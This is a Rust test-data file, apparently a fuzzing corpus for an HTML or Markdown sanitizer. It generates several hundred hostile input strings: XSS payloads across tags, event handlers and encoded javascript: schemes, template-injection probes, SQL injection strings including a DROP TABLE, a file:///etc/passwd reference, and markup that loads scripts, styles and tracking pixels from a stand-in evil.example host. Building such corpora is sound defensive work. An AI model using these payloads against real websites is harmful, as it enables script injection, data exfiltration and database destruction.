//! Texts that want to be more than text, of every kind that is known.

/// A few hundred of them. None has a blank at its ends, so each can be said.
pub fn texts() -> Vec<String> {
    let mut all: Vec<String> = ONCE.iter().map(|text| (*text).to_owned()).collect();
    for tag in TAGS {
        for handler in HANDLERS {
            all.push(format!("<{tag} {handler}=alert(1)>"));
        }
    }
    for scheme in SCHEMES {
        for form in ["[x]({})", "<a href=\"{}\">x</a>", "![x]({})", "<{}>", "<iframe src='{}'>", "[x]: {}\n\n[x]"] {
            all.push(form.replace("{}", scheme));
        }
    }
    for around in AROUND {
        all.push(around.replace("{}", "<script>alert(1)</script>"));
        all.push(around.replace("{}", "<img src=x onerror=alert(1)>"));
        all.push(around.replace("{}", "<svg/onload=alert(1)>"));
    }
    all
}

const TAGS: [&str; 14] = [
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "audio src=x",
    "marquee",
    "iframe",
    "object data=x",
    "select autofocus",
    "textarea autofocus",
    "math",
    "custom-x tabindex=1 id=x",
];
const HANDLERS: [&str; 12] = [
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onstart",
    "onmouseover",
    "onanimationstart",
    "onpointerenter",
    "onbeforeinput",
    "ONERROR",
    "on\u{0}load",
    "onfocusin",
];
const SCHEMES: [&str; 14] = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "\u{1}javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/x.js",
    "blob:https://evil.example/x",
    "file:///etc/passwd",
];
const AROUND: [&str; 16] = [
    "{}",
    "\">{}",
    "'>{}",
    "</title>{}",
    "</textarea>{}",
    "</style>{}",
    "</script>{}",
    "-->{}",
    "]]>{}",
    "</noscript>{}",
    "`{}`",
    "```\n{}\n```",
    "> {}",
    "| {} | b |\n|---|---|\n| c | {} |",
    "<!--<img title=\"-->{}\">",
    "<plaintext>{}",
];
const ONCE: [&str; 60] = [
    "{{ 7 * 7 }}",
    "{% raw %}{{ config }}{% endraw %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7 * 7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "{{ visitor.name }}",
    "{% include 'agent.html' %}",
    "{{ ''.__class__ }}",
    "[[${7*7}]]",
    "@(7*7)",
    "*{7*7}",
    "'; DROP TABLE events; --",
    "' OR '1'='1",
    "\" OR \"\"=\"",
    "1; SELECT pg_sleep(9)",
    "%' OR 1=1 --",
    "\\'; --",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<form action=https://evil.example/><button>x</button></form>",
    "<input type=image src=https://evil.example/x formaction=javascript:alert(1)>",
    "<a href=x ping=https://evil.example/>x</a>",
    "<img src=https://evil.example/pixel.gif>",
    "<img srcset=https://evil.example/pixel.gif>",
    "![x](https://evil.example/pixel.gif)",
    "<picture><source srcset=https://evil.example/x><img></picture>",
    "<video poster=https://evil.example/x></video>",
    "<embed src=https://evil.example/x.swf>",
    "<object data=https://evil.example/x.swf></object>",
    "<portal src=https://evil.example/>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"/>#x'/></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<select><template shadowrootmode=open><img src=x onerror=alert(1)></template></select>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<img/src=x/onerror=alert`1`>",
    "<<script>alert(1)//<</script>",
    "\u{202e}<script>alert(1)</script>",
    "\u{feff}<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>",
    "<x contenteditable onblur=alert(1)>x</x>",
    "data: {\"a\":1}\n\nevent: over\ndata: {}",
    "<script src=//evil.example/x.js></script>",
];
